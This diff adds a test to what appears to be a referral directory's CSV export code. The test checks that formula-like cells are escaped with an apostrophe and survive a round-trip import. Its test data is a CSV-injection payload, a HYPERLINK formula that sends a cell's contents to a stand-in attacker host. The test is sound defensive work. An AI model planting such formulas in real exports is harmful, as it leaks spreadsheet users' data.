@@ -84,6 +84,33 @@ async def test_export_then_import_gives_the_same_directory(db, tmp_path):
     assert (await counts(db))[2] == changes_before, "an import that changes nothing leaves no history"
 
 
+FORMULA_NAME = '=HYPERLINK("http://evil.test/?d="&A2,"Open")'
+
+
+async def test_export_writes_no_cell_a_spreadsheet_evaluates_and_reads_back_the_same(db, tmp_path):
+    async with db.transaction() as session:
+        from referrals.directory import service
+
+        await service.create_organisation(
+            session, ADMIN, {"name": FORMULA_NAME, "kind": "ngo", "phone": "+994 12 555 00 00"}
+        )
+    exported = await export(db)
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    assert FORMULA_NAME not in cells, "the directory export wrote a formula verbatim"
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "'" + FORMULA_NAME in cells
+
+    fresh = await migrated_database(MIGRATIONS, f"sqlite+aiosqlite:///{tmp_path / 'fresh.db'}")
+    try:
+        await import_text(fresh, exported)
+        async with fresh.reader() as session:
+            phone = await session.scalar(select(Organisation.phone).where(Organisation.name == FORMULA_NAME))
+        assert phone == "+994 12 555 00 00", "the apostrophe is the export's, not part of the value"
+        assert await export(fresh) == exported
+    finally:
+        await fresh.dispose()
+
+
 async def test_import_updates_and_creates_with_history(db):
     rows = rows_of(await export(db))
     [shelter] = [r for r in rows if r["service_id"] == service_id(4)]
